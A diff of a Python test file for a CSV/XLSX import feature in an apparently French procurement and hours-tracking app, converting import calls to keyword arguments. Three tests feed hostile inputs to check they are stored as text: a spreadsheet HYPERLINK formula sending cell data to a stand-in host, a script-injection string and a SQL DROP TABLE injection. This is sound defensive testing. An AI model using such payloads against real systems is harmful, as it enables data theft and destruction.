@@ -45,7 +45,7 @@ def hours_row(**change: object) -> list[object]:
 def refused(store, kind: str, data: bytes, filename: str = "f.csv") -> str:
     """Import a bad file: it must be refused whole, with nothing written; returns the messages."""
     before = counts(store)
-    report = run_import(store, FACILITATOR, kind, data, filename)
+    report = run_import(store, actor=FACILITATOR, kind=kind, data=data, filename=filename)
     assert not report.ok and not report.applied
     assert counts(store) == before
     return "\n".join(report.error_messages())
@@ -68,7 +68,7 @@ def test_wrong_separator_reads_as_one_column(store):
 def test_utf8_file_with_a_few_bad_bytes_lists_those_rows_and_writes_nothing(store):
     data = ("nom;type\nVille d'Été;collectivité\n".encode() + b"Cr\xe8che de Test;autre\n"
             + "Hôpital;autre\n".encode())
-    report = run_import(store, FACILITATOR, "acheteurs", data, "a.csv")
+    report = run_import(store, actor=FACILITATOR, kind="acheteurs", data=data, filename="a.csv")
     assert not report.ok and not report.applied
     assert [(e.row, e.column, e.value) for e in report.errors] == [(3, "nom", "Cr\ufffdche de Test")]
     assert "octet qui n'est pas de l'UTF-8" in report.error_messages()[0]
@@ -164,7 +164,7 @@ def test_bad_siret_checksum(store):
 
 def test_la_poste_sirets_follow_their_own_rule(store):
     data = csv_bytes([["siret", "raison_sociale", "type"], ["35600000049837", "La Poste", "entreprise classique"]])
-    assert run_import(store, FACILITATOR, "entreprises", data, "e.csv").created == 1
+    assert run_import(store, actor=FACILITATOR, kind="entreprises", data=data, filename="e.csv").created == 1
     wrong = csv_bytes([["siret", "raison_sociale", "type"], ["35600000049838", "La Poste", "entreprise classique"]])
     assert "clé de contrôle de La Poste" in refused(store, "entreprises", wrong)
 
@@ -199,9 +199,11 @@ def test_unknown_kind(store):
 def test_reader_is_refused_and_nothing_written(store):
     before = counts(store)
     with pytest.raises(AuthError, match="facilitateur"):
-        run_import(store, Actor("lea", Role.LECTEUR), "marches", csv_bytes([CONTRACT_HEADER, contract_row()]), "m.csv")
+        run_import(store, actor=Actor("lea", Role.LECTEUR), kind="marches",
+                   data=csv_bytes([CONTRACT_HEADER, contract_row()]), filename="m.csv")
     with pytest.raises(AuthError):
-        run_import(store, None, "marches", csv_bytes([CONTRACT_HEADER, contract_row()]), "m.csv")
+        run_import(store, actor=None, kind="marches", data=csv_bytes([CONTRACT_HEADER, contract_row()]),
+                   filename="m.csv")
     assert counts(store) == before
 
 
@@ -217,7 +219,7 @@ def test_hyperlink_formula_stored_as_text(store):
     # A text cell that reads as a formula (a formula cell itself is read as its saved result).
     formula = '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")'
     data = xlsx_bytes([CONTRACT_HEADER, contract_row(objet=formula)], title="marches", formulas_as_text=True)
-    report = run_import(store, FACILITATOR, "marches", data, "m.xlsx")
+    report = run_import(store, actor=FACILITATOR, kind="marches", data=data, filename="m.xlsx")
     assert report.ok and report.created == 1
     assert _stored_object(store, "K20") == formula
 
@@ -225,17 +227,17 @@ def test_hyperlink_formula_stored_as_text(store):
 def test_script_stored_as_text(store):
     script = "<script>alert('x')</script> Travaux"
     data = csv_bytes([CONTRACT_HEADER, contract_row(objet=script)])
-    report = run_import(store, FACILITATOR, "marches", data, "m.csv")
+    report = run_import(store, actor=FACILITATOR, kind="marches", data=data, filename="m.csv")
     assert report.created == 1 and _stored_object(store, "K20") == script
 
 
 def test_sql_looking_text_stored_as_text(store):
     sql = "'); DROP TABLE contract; --"
     data = csv_bytes([CONTRACT_HEADER, contract_row(reference=sql, objet=sql)])
-    assert run_import(store, FACILITATOR, "marches", data, "m.csv").created == 1
+    assert run_import(store, actor=FACILITATOR, kind="marches", data=data, filename="m.csv").created == 1
     assert "contract" in inspect(store).get_table_names()
     assert _stored_object(store, sql) == sql
-    assert run_import(store, FACILITATOR, "marches", data, "m.csv").unchanged == 1
+    assert run_import(store, actor=FACILITATOR, kind="marches", data=data, filename="m.csv").unchanged == 1
 
 
 # --- valid files of every kind ------------------------------------------------------------------
@@ -282,18 +284,22 @@ def test_valid_file_imported_then_idempotent_then_updated(store, kind, encoding)
             return xlsx_bytes(table), f"{kind}.xlsx"
         return csv_bytes(table, encoding=encoding), f"{kind}.csv"
 
-    first = run_import(store, FACILITATOR, kind, *encode(rows))
+    def encoded(table: list[list[object]]) -> dict[str, object]:
+        data, filename = encode(table)
+        return {"data": data, "filename": filename}
+
+    first = run_import(store, actor=FACILITATOR, kind=kind, **encoded(rows))
     assert first.ok, first.error_messages()
     assert (first.created, first.updated, first.unchanged, first.applied) == (2, 0, 0, True)
     after_first = counts(store)
 
-    again = run_import(store, FACILITATOR, kind, *encode(rows))
+    again = run_import(store, actor=FACILITATOR, kind=kind, **encoded(rows))
     assert (again.created, again.updated, again.unchanged, again.applied) == (0, 0, 2, False)
     assert counts(store) == after_first
     assert "déjà à jour" in again.summary()
 
     edited = [*rows[:changed_index], changed, *rows[changed_index + 1:]]
-    third = run_import(store, FACILITATOR, kind, *encode(edited))
+    third = run_import(store, actor=FACILITATOR, kind=kind, **encoded(edited))
     assert (third.created, third.updated, third.unchanged) == (0, 1, 1)
     assert counts(store)["AuditEntry"] == after_first["AuditEntry"] + 2  # the row, and the import's summary
 
@@ -305,13 +311,15 @@ def test_preview_writes_nothing_and_apply_writes(store):
     report = preview_import(store, "marches", csv_bytes([CONTRACT_HEADER, contract_row()]), "m.csv")
     assert report.ok and report.created == 1 and counts(store) == before
     assert "rien n'est encore enregistré" in report.summary()
-    applied = apply_import(store, FACILITATOR, report)
+    applied = apply_import(store, actor=FACILITATOR, report=report)
     assert applied.applied and counts(store)["Contract"] == before["Contract"] + 1
 
 
 def test_audit_entries_carry_before_and_after(store):
-    run_import(store, FACILITATOR, "marches", csv_bytes([CONTRACT_HEADER, contract_row()]), "m.csv")
-    run_import(store, FACILITATOR, "marches", csv_bytes([CONTRACT_HEADER, contract_row(objet="Nouvel objet")]), "m.csv")
+    run_import(store, actor=FACILITATOR, kind="marches", data=csv_bytes([CONTRACT_HEADER, contract_row()]),
+               filename="m.csv")
+    run_import(store, actor=FACILITATOR, kind="marches",
+               data=csv_bytes([CONTRACT_HEADER, contract_row(objet="Nouvel objet")]), filename="m.csv")
     with Session(store) as session:
         entries = session.exec(select(AuditEntry).where(AuditEntry.entity == "contract")
                                .order_by(AuditEntry.id)).all()
@@ -322,7 +330,7 @@ def test_audit_entries_carry_before_and_after(store):
 
 def test_unknown_columns_ignored_and_said_so(store):
     data = csv_bytes([["nom", "type", "Commentaire"], ["Ville Nouvelle", "autre", "à rappeler"]])
-    report = run_import(store, FACILITATOR, "acheteurs", data, "a.csv")
+    report = run_import(store, actor=FACILITATOR, kind="acheteurs", data=data, filename="a.csv")
     assert report.created == 1 and "Colonnes inconnues ignorées : « Commentaire »." in report.notes
 
 
@@ -331,7 +339,7 @@ def test_hours_import_changes_the_headline(store):
     before = headline(store, year)
     data = csv_bytes([HOURS_HEADER, hours_row(participant_code="P2", mois="03/2022", heures="100",
                                               mode="embauche directe", type_contrat="CDD", structure_siret="")])
-    assert run_import(store, FACILITATOR, "heures", data, "h.csv").created == 1
+    assert run_import(store, actor=FACILITATOR, kind="heures", data=data, filename="h.csv").created == 1
     after = headline(store, year)
     assert after["heures_realisees"] == before["heures_realisees"] + 100
     assert after["participants"] == before["participants"] + 1
